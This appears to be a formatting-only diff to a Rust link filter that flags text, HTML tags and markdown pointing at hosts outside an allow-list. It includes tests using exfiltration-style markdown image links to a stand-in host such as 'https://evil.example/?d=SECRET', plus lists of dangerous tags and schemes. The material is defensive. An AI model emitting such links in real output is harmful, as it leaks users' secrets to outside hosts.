@@ -57,9 +57,9 @@ impl Place {
             false => host == self.host,
         };
         let path = url.path();
-        let under = path.strip_prefix(&self.path).is_some_and(|rest| {
-            rest.is_empty() || self.path.ends_with('/') || rest.starts_with('/')
-        });
+        let under = path
+            .strip_prefix(&self.path)
+            .is_some_and(|rest| rest.is_empty() || self.path.ends_with('/') || rest.starts_with('/'));
         fits && under
             && url.scheme() == self.scheme
             && url.port_or_known_default() == self.port
@@ -154,7 +154,10 @@ impl Links {
 
     fn tag_leads_out(&self, name: &str, inside: &str) -> bool {
         // What is within these is no text, or changes where everything leads.
-        if matches!(name, "script" | "style" | "base" | "meta" | "iframe" | "object" | "embed" | "form" | "svg" | "link") {
+        if matches!(
+            name,
+            "script" | "style" | "base" | "meta" | "iframe" | "object" | "embed" | "form" | "svg" | "link"
+        ) {
             return true;
         }
         let plain: String = unescaped(inside).chars().filter(|c| !c.is_control()).collect();
@@ -162,10 +165,12 @@ impl Links {
         // Wherever there are two slashes an address begins, if a scheme or nothing stands before them.
         let addressed = plain.match_indices("//").any(|(at, _)| {
             let before = plain.get(..at).unwrap_or_default();
-            let begins = before.rfind(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '=' | '(' | ',' | ';' | '`'));
+            let begins =
+                before.rfind(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '=' | '(' | ',' | ';' | '`'));
             let from = begins.map_or(0, |begins| begins + 1);
             let address = plain.get(from..).unwrap_or_default();
-            let address = address.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ')' | ',' | '`')).next();
+            let address =
+                address.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ')' | ',' | '`')).next();
             let address = address.unwrap_or_default();
             let scheme = address.split("//").next().unwrap_or_default();
             (scheme.is_empty() || scheme.ends_with(':')) && self.is_foreign(address)
@@ -175,7 +180,8 @@ impl Links {
         let bare = ["http:", "https:", "javascript:", "vbscript:", "ftp:", "ws:", "wss:"].iter().any(|scheme| {
             lower.match_indices(scheme).any(|(at, _)| {
                 let address = plain.get(at..).unwrap_or_default();
-                let address = address.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ')' | ',' | '`')).next();
+                let address =
+                    address.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ')' | ',' | '`')).next();
                 self.is_foreign(address.unwrap_or_default())
             })
         });
@@ -188,9 +194,14 @@ impl Links {
         let addresses = plain.match_indices("//").map(|(at, _)| {
             let before = plain.get(..at).unwrap_or_default();
             let begins = before.rfind(|c: char| !c.is_ascii_alphanumeric() && !matches!(c, '+' | '-' | '.' | ':'));
-            let from = begins.map_or(0, |begins| begins + plain.get(begins..).map_or(1, |c| c.chars().next().map_or(1, char::len_utf8)));
+            let from = begins.map_or(0, |begins| {
+                begins + plain.get(begins..).map_or(1, |c| c.chars().next().map_or(1, char::len_utf8))
+            });
             let address = plain.get(from..).unwrap_or_default();
-            address.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '<' | '>' | ')' | '`')).next().unwrap_or_default()
+            address
+                .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '<' | '>' | ')' | '`'))
+                .next()
+                .unwrap_or_default()
         });
         let mut foreign = addresses.filter(|address| {
             let scheme = address.split("//").next().unwrap_or_default();
@@ -231,9 +242,10 @@ impl Links {
         }
         let mut found = 0;
         for (key, entry) in value.entries() {
-            let icons = key.is("icons") && entry.elements().any(|icon| {
-                icon.get("src").and_then(|src| src.as_str()).is_some_and(|src| self.is_foreign(&src))
-            });
+            let icons = key.is("icons")
+                && entry
+                    .elements()
+                    .any(|icon| icon.get("src").and_then(|src| src.as_str()).is_some_and(|src| self.is_foreign(&src)));
             if icons {
                 patches.remove(entry);
                 found += 1;
@@ -334,7 +346,10 @@ mod tests {
         for (text, made) in [
             ("![a](https://evil.example/?d=SECRET)", "![a] (`https://evil.example/?d=SECRET`)"),
             ("see [here](https://evil.example/x \"title\").", "see [here] (`https://evil.example/x` \"title\")."),
-            ("[![i](https://a.evil.example/1)](https://evil.example/2)", "[![i] (`https://a.evil.example/1`)] (`https://evil.example/2`)"),
+            (
+                "[![i](https://a.evil.example/1)](https://evil.example/2)",
+                "[![i] (`https://a.evil.example/1`)] (`https://evil.example/2`)",
+            ),
             ("![a][1]\n\n[1]: https://evil.example/x", "![a][1]\n\n[1] :`https://evil.example/x`"),
             ("![a](<https://evil.example/a b>)", "![a] (`https://evil.example/a b`)"),
             ("![a](//evil.example/x)", "![a] (`//evil.example/x`)"),
@@ -387,7 +402,12 @@ mod tests {
     #[test]
     fn what_is_sent_may_lead_to_allowed_places_only() {
         let links = links(&["https://*.example.com/"]);
-        for text in ["go to https://evil.example/?q=x.", "(http://www.example.com/)", "https:\\\\evil.example", "xhttps://evil.example"] {
+        for text in [
+            "go to https://evil.example/?q=x.",
+            "(http://www.example.com/)",
+            "https:\\\\evil.example",
+            "xhttps://evil.example",
+        ] {
             assert!(links.leads_out(text), "{text}");
         }
         for text in ["go to https://www.example.com/x?y, please", "a // comment", "and/or", "", "ü//"] {
